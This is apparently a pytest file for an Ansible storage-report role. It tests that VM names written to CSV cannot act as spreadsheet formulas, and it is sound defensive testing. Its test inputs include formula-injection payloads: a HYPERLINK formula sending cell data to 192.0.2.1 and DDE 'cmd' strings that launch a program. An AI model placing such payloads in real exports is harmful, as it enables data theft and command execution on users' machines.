# Copyright (c) 2026, the crossvisor.san authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The map as a CSV file: nothing that somebody named a VM becomes a formula in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from ansible_collections.crossvisor.san.plugins.module_utils._san.model import StorageMapping

TEMPLATES = Path(__file__).parents[3] / "roles" / "storage_report" / "templates"
COLUMNS = list(StorageMapping.__annotations__)

Render = Callable[..., str]


def rendered(render: Render, template: str, *mappings: dict[str, Any]) -> str:
    maps: list[dict[str, Any]] = [{"virtual_machines": [], "storage_resources": []}]
    return render((TEMPLATES / template).read_text(), storage_report_mappings=mappings, storage_report_maps=maps)


def mapping(**values: Any) -> dict[str, Any]:
    return {**dict.fromkeys(COLUMNS, ""), "size_bytes": 1 << 30, "lun_id": 3, **values}


def written(render: Render, **values: Any) -> dict[str, str]:
    """The row that a program reads back from the file."""
    found = list(csv.DictReader(io.StringIO(rendered(render, "storage_map.csv.j2", mapping(**values)), newline="")))
    assert len(found) == 1
    return dict(found[0])


def test_the_file_has_every_column_of_the_map(render: Render) -> None:
    assert list(written(render)) == COLUMNS


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://192.0.2.1/?x="&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\rapp01",
        "  =1+1",
        '"=1+1',
        "'=1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "--1",
        "-1;=1+1",
    ],
)
def test_what_a_spreadsheet_would_compute_is_text(render: Render, name: str) -> None:
    cell = written(render, vm_name=name)["vm_name"]
    assert cell.startswith("'")
    assert cell.replace("'", "") == name.replace("'", "")


@pytest.mark.parametrize("name", ["app;=1+1", "app;-1+1", "app\t@SUM(1+1)", "app\n=1+1"])
def test_a_formula_behind_another_separator_is_text_too(render: Render, name: str) -> None:
    separator = max(name.find(character) for character in ";\t\n")
    assert written(render, vm_name=name)["vm_name"] == f"{name[: separator + 1]}'{name[separator + 1 :]}"


@pytest.mark.parametrize(
    "name", ["app-01", "a=b", "[gold] app/app.vmdk", "C:\\VMs\\a.vhdx", "192.0.2.21:/exports", "", "it's", "a, b", "r\u00e4um"]
)
def test_what_is_no_formula_stays_as_it_is(render: Render, name: str) -> None:
    assert written(render, vm_name=name)["vm_name"] == name


@pytest.mark.parametrize("number", [-1, 0, 7, -12.5])
def test_a_number_stays_a_number_below_zero_too(render: Render, number: float) -> None:
    assert written(render, size_bytes=number, vm_name=str(number))["size_bytes"] == str(number)
    assert written(render, vm_name=str(number))["vm_name"] == str(number)


def test_what_is_unknown_is_an_empty_cell(render: Render) -> None:
    assert written(render, lun_id=None)["lun_id"] == ""


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.text(alphabet="=+-@;\t\r\n \"'a1", max_size=8))
@example("\n=1")
def test_no_cell_begins_as_a_formula(render: Render, name: str) -> None:
    cell = written(render, vm_name=name)["vm_name"]
    assert not cell.lstrip(' \t\r\n"').startswith(("=", "+", "@")), repr(cell)
    assert cell[:1] not in ("\t", "\r", "\n")


def test_other_formats_hold_the_name_as_it_is(render: Render) -> None:
    row = mapping(vm_name="=1+1", status="mapped")
    assert json.loads(rendered(render, "storage_map.json.j2", row))["mappings"][0]["vm_name"] == "=1+1"
    assert "<td>=1+1</td>" in rendered(render, "report.html.j2", row)
